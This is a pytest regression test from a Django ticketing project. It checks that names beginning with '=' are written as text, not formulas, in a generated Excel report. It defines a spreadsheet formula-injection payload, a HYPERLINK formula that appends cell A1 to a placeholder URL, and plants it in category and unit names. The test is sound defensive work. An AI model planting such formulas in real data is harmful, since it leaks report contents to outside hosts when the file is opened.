# ruff: noqa: F811 (pytest fixtures imported from tests.tickets)
"""The report workbook writes names as text, never as formulas (``core.spreadsheet.xlsx_row``).

Category, unit and division names come from other people's data; openpyxl stores any text that
starts with "=" as a formula, which Excel runs when the official report is opened. Was: a
category named "=HYPERLINK(…)" came out as a live formula in the "Categories" sheet.
"""

from __future__ import annotations

from io import BytesIO

import pytest
from django.utils import timezone

from tests.tickets.conftest import (  # noqa: F401 (fixtures)
    SANITATION,
    dispatched,
    hotline,
    make_ticket,
    nanshan_building,
    nanshan_community,
    sub_handler,
)
from zhiwang.analytics import services
from zhiwang.tickets.models import Category

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_names_starting_with_equals_are_text_in_the_report(
    city_leader, dispatched, sub_handler, nanshan_community, settings, tmp_path
):
    from openpyxl import load_workbook

    settings.MEDIA_ROOT = tmp_path
    Category.objects.filter(code=SANITATION).update(name=f"{FORMULA} 分类")
    unit = sub_handler.org_unit
    unit.name = f"{FORMULA} 单位"
    unit.save(update_fields=["name"])
    subdistrict = nanshan_community.parent
    subdistrict.name = subdistrict.short_name = f"{FORMULA} 街道"
    subdistrict.save(update_fields=["name", "short_name"])
    dispatched()

    today = timezone.localdate()
    report, _created = services.report_request(
        user=city_leader,
        division_code="440305000000",
        period=f"{today.year}-Q{(today.month - 1) // 3 + 1}",
        idempotency_key="formulas",
    )
    services.report_generate(report_id=report.pk)
    report.refresh_from_db()
    assert report.status == "done"
    with report.xlsx.open("rb") as handle:
        book = load_workbook(BytesIO(handle.read()))

    written = {cell.value: cell for cell in _cells(book) if isinstance(cell.value, str)}
    ours = {value: cell for value, cell in written.items() if value.startswith("=")}
    # the three names made it into the workbook, each stored as a string, not a formula
    assert {f"{FORMULA} 分类", f"{FORMULA} 单位", f"{FORMULA} 街道"} <= set(ours), sorted(written)
    assert {cell.data_type for cell in ours.values()} == {"s"}
    # and no cell anywhere is a formula
    assert [c.coordinate for c in _cells(book) if c.data_type == "f"] == []
